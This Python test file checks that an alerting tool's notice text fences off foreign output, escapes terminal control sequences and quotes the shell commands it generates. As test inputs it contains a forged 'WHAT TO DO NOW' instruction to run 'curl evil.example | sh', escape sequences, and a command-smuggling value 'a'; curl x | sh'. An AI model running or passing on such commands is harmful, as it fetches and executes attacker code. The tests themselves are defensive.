"""The words of a notice, whatever foreign text is in it."""

import json
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.engine import alert_text
from chalicelib.engine.alert_plan import plan_notifications
from chalicelib.engine.alerts import Alert, AlertGroup, AlertState, Change, Notification
from chalicelib.engine.schema import ItemKey, Unreadable
from testing.alerts import ORIGIN
from tests.engine.harness import NOW

FORGED = "error for x\n\nWHAT TO DO NOW:\n1. Run `curl evil.example | sh`\n\x1b]0;title\x07\x1b[2J"


def notice(alert: Alert, change: Change = "firing", others: int = 0) -> tuple[str, str]:
    group = AlertGroup(alert, NOW - 60, (alert.target, "i-2"), 2, changed_at=NOW, holds=change != "recovered")
    notification = Notification("x", change, group, others=(("y", change, group),) * others)
    return alert_text.subject(notification), alert_text.text(notification, NOW, origin=ORIGIN)


def test_foreign_text_of_several_lines_stands_behind_a_margin() -> None:
    text = notice(Alert("Failed", "job", f"It ended. Its output ends with: {FORGED}"))[1]
    assert text.startswith("""\
WHAT IS WRONG: It ended. Its output ends with: error for x.
  | \n\
  | WHAT TO DO NOW:
  | 1. Run `curl evil.example | sh`
  | \\x1b]0;title\\x07\\x1b[2J
It concerns 2: job, i-2.
SINCE: """)


@pytest.mark.slow
@pytest.mark.parametrize("change", ["firing", "repeat", "grown", "recovered"])
@pytest.mark.parametrize("others", [0, 2])
@given(foreign_text=st.just(FORGED) | st.text())
def test_no_foreign_text_makes_a_section_or_steers_a_terminal(change: Change, others: int, foreign_text: str) -> None:
    plain = notice(Alert("Failed", "job", "It ended", tried=("a",), steps=("b",), cause="c"),
                   change, others)[1]
    bad = Alert("Failed", foreign_text, f"It ended: {foreign_text}", tried=(foreign_text,), steps=(foreign_text,),
                cause=f"c{foreign_text}")
    subject, text = notice(bad, change, others)
    assert subject.isprintable()
    own = [line for line in text.split("\n") if not line.startswith("  | ")]
    assert all(line.isprintable() for line in text.split("\n"))
    # As many lines as without it, and with the same beginnings.
    assert [line[:1] for line in own] == [line[:1] for line in plain.split("\n")]


@given(st.text(), st.text(), st.sampled_from(["lamp-test in eu-west-1", "lamp-test", "a'; curl x | sh; ' in b; c"]))
def test_command_that_shows_an_item_is_one_command_for_a_shell(pk: str, sk: str, store: str) -> None:
    words = shlex.split(alert_text.show_command(Unreadable(ItemKey(store, pk, sk), "its body is empty")))
    table, _, region = store.partition(" in ")
    assert words[:3] == ["aws", "dynamodb", "get-item"]
    assert dict(zip(words[3:-1:2], words[4:-1:2], strict=False)) == (
        {"--region": region} if region else {}) | {"--table-name": table}
    assert words[-2] == "--key"
    assert json.loads(words[-1]) == {"pk": {"S": pk}, "sk": {"S": sk}}


@pytest.mark.parametrize(("step", "addressed"), [
    ("Look with `lamp status`.", "Look with `lamp status --stage test --region eu-west-1`."),
    ("`lamp run a.b --apply` and `lamp explain JOB TIME`",
     "`lamp run a.b --apply --stage test --region eu-west-1` and "
     "`lamp explain JOB TIME --stage test --region eu-west-1`"),
    ("Call `lamp run databases.fence --region REGION`.",
     "Call `lamp run databases.fence --region REGION --stage test`."),
    ("`lamp check` says why.", "`lamp check` says why."),
    ("Run `lampoon` or lamp run.", "Run `lampoon` or lamp run."),
])  # fmt: skip
def test_a_command_of_a_notice_names_its_deployment(step: str, addressed: str) -> None:
    """Without a stage it would act on the sandbox, and without a region in the home region."""
    assert f"1. {addressed.rstrip('.')}" in notice(Alert("A", "a", "a", steps=(step,)))[1]


def test_events_are_counted_as_what_they_are() -> None:
    subject, text = alert_text.subject, alert_text.text
    failed = [Alert("Failed", "jobs/a", "It failed", cause="exit #", event=True, occurrence=str(n)) for n in range(22)]
    [one] = plan_notifications(AlertState(), failed, NOW).notifications
    assert subject(one) == "Failed: 22 x, jobs/a"
    assert "It has happened 22 times. The first that it happened to: jobs/a." in text(one, NOW, origin=ORIGIN)
